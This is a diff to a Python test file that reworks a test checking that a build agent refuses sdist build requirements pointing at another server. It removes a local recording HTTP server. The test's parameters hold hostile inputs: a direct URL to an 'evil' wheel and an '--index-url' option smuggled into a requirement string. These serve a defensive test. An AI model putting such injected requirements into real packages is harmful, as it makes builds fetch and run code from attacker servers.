@@ -19,9 +19,6 @@ import pathlib
 import shutil
 import tarfile
 
-import http.server
-import threading
-
 import pytest
 
 from conftest import metric
@@ -279,42 +276,15 @@ def test_requirement_the_backend_asks_for_is_fetched_too(start_agent, tmp_path, 
     assert "building again with the requirements the backend asked for" in log, log
 
 
-class CountingServer:
-    """A loopback HTTP server that records every request and serves nothing (an attacker's)."""
-
-    def __init__(self):
-        self.requests = []
-        outer = self
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def log_message(self, *args):
-                pass
-
-            def do_GET(self):  # noqa: N802 (the http.server interface)
-                outer.requests.append(self.path)
-                self.send_response(404)
-                self.send_header("Content-Length", "0")
-                self.end_headers()
-
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        self.thread.start()
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
-
-    def close(self):
-        self.server.shutdown()
-        self.server.server_close()
-
-
 @pytest.mark.parametrize("requirement", ["evil @ {url}/evil-1.0-py3-none-any.whl",
                                          "--index-url={url}/simple/ setuptools"])
 def test_build_requirement_pointing_elsewhere_is_refused(start_agent, tmp_path, index,
                                                          requirement):
     # The sdist's pyproject.toml points the download at another server (a direct URL, or an
     # option smuggled into pip's command line): nothing may be fetched from there.
-    attacker = CountingServer()
+    attacker = FixtureIndex()  # another server, that records what it is asked
     try:
-        req = requirement.format(url=attacker.url)
+        req = requirement.format(url=attacker.url.removesuffix("/simple/"))
         pyproject = f'[build-system]\nrequires = ["{req}"]\nbuild-backend = "setuptools.build_meta"\n'
         setup_py = "from setuptools import setup\nsetup(name='urlreq', version='1.0')\n"
         index.files["urlreq"] = [make_pyproject_sdist(tmp_path, "urlreq", "1.0", pyproject,
